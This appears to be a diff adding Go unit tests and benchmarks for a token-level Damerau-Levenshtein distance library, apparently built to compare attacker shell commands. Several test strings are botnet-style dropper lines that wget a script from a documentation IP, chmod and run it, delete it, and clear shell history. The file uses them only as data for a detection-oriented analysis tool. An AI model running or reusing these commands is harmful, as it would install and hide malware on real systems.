@@ -1,0 +1,182 @@
+package textdist
+
+import (
+	"math/rand"
+	"testing"
+	"testing/quick"
+)
+
+func TestTokenizePaperExample(t *testing.T) {
+	got := Tokenize("mkdir /tmp;cd /tmp")
+	want := []string{"mkdir", "/tmp", "cd", "/tmp"}
+	if len(got) != len(want) {
+		t.Fatalf("tokens = %v", got)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("token %d = %q, want %q", i, got[i], want[i])
+		}
+	}
+}
+
+func TestDamerauPaperExample(t *testing.T) {
+	// "mkdir /tmp" vs "cd /tmp": one token substitution... the paper
+	// says DLD=1 treating each token as a character; "mkdir /tmp" is
+	// [mkdir,/tmp], "cd /tmp" is [cd,/tmp]: substitution of one token.
+	a := Tokenize("mkdir /tmp")
+	b := Tokenize("cd /tmp")
+	if d := Damerau(a, b); d != 1 {
+		t.Errorf("DLD = %d, want 1", d)
+	}
+}
+
+func TestDamerauBasics(t *testing.T) {
+	cases := []struct {
+		a, b string
+		want int
+	}{
+		{"", "", 0},
+		{"a b c", "a b c", 0},
+		{"a b c", "a c b", 1}, // transposition
+		{"a b c", "a b", 1},   // deletion
+		{"a b", "a b c", 1},   // insertion
+		{"a b c", "x y z", 3}, // full substitution
+		{"wget http://1.2.3.4/x; chmod +x x; ./x", "wget http://5.6.7.8/y; chmod +x y; ./y", 3},
+	}
+	for _, c := range cases {
+		if got := Damerau(Tokenize(c.a), Tokenize(c.b)); got != c.want {
+			t.Errorf("Damerau(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
+		}
+	}
+}
+
+func TestObfuscationRobustness(t *testing.T) {
+	// The paper's motivation: rotating IPs/filenames changes few tokens.
+	a := "cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh"
+	b := "cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh"
+	ta, tb := Tokenize(a), Tokenize(b)
+	d := Normalized(ta, tb)
+	if d > 0.5 {
+		t.Errorf("normalized DLD = %.2f; obfuscated variants should stay close", d)
+	}
+	// A completely different behavior must be far.
+	c := "uname -a"
+	if d2 := Normalized(ta, Tokenize(c)); d2 < 0.8 {
+		t.Errorf("normalized DLD to scout = %.2f; different behavior should be far", d2)
+	}
+}
+
+func TestDamerauProperties(t *testing.T) {
+	gen := func(r *rand.Rand) []string {
+		n := r.Intn(12)
+		out := make([]string, n)
+		vocab := []string{"cd", "/tmp", "wget", "chmod", "rm", "-rf", "x", "y"}
+		for i := range out {
+			out[i] = vocab[r.Intn(len(vocab))]
+		}
+		return out
+	}
+	r := rand.New(rand.NewSource(7))
+	for i := 0; i < 300; i++ {
+		a, b, c := gen(r), gen(r), gen(r)
+		dab := Damerau(a, b)
+		dba := Damerau(b, a)
+		if dab != dba {
+			t.Fatalf("symmetry violated: %v %v", a, b)
+		}
+		if (dab == 0) != equal(a, b) {
+			t.Fatalf("identity violated: %v %v d=%d", a, b, dab)
+		}
+		// Triangle inequality holds for OSA on these small random cases.
+		dac := Damerau(a, c)
+		dcb := Damerau(c, b)
+		if dab > dac+dcb {
+			t.Fatalf("triangle violated: d(a,b)=%d > %d+%d", dab, dac, dcb)
+		}
+		// Bounds.
+		max := len(a)
+		if len(b) > max {
+			max = len(b)
+		}
+		if dab > max {
+			t.Fatalf("distance exceeds max length")
+		}
+	}
+}
+
+func equal(a, b []string) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}
+
+func TestNormalizedRange(t *testing.T) {
+	f := func(a, b []byte) bool {
+		ta := Tokenize(string(a))
+		tb := Tokenize(string(b))
+		d := Normalized(ta, tb)
+		return d >= 0 && d <= 1
+	}
+	if err := quick.Check(f, nil); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestBandedMatchesFull(t *testing.T) {
+	r := rand.New(rand.NewSource(11))
+	vocab := []string{"a", "b", "c", "d", "e"}
+	gen := func() []string {
+		n := r.Intn(15)
+		out := make([]string, n)
+		for i := range out {
+			out[i] = vocab[r.Intn(len(vocab))]
+		}
+		return out
+	}
+	for i := 0; i < 500; i++ {
+		a, b := gen(), gen()
+		full := Damerau(a, b)
+		for _, bound := range []int{0, 1, 3, 20} {
+			banded := DamerauBanded(a, b, bound)
+			if full <= bound && banded != full {
+				t.Fatalf("banded(%d) = %d, full = %d for %v %v", bound, banded, full, a, b)
+			}
+			if full > bound && banded <= bound {
+				t.Fatalf("banded(%d) = %d should exceed bound, full = %d", bound, banded, full)
+			}
+		}
+	}
+}
+
+func TestCharDamerau(t *testing.T) {
+	if d := CharDamerau("kitten", "sitting"); d != 3 {
+		t.Errorf("CharDamerau(kitten,sitting) = %d, want 3", d)
+	}
+	if d := CharDamerau("ab", "ba"); d != 1 {
+		t.Errorf("CharDamerau(ab,ba) = %d, want 1 (transposition)", d)
+	}
+}
+
+func BenchmarkDamerauTokens(b *testing.B) {
+	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
+	y := Tokenize("cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh; history -c")
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		Damerau(x, y)
+	}
+}
+
+func BenchmarkDamerauBanded(b *testing.B) {
+	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
+	y := Tokenize("uname -a")
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		DamerauBanded(x, y, 3)
+	}
+}
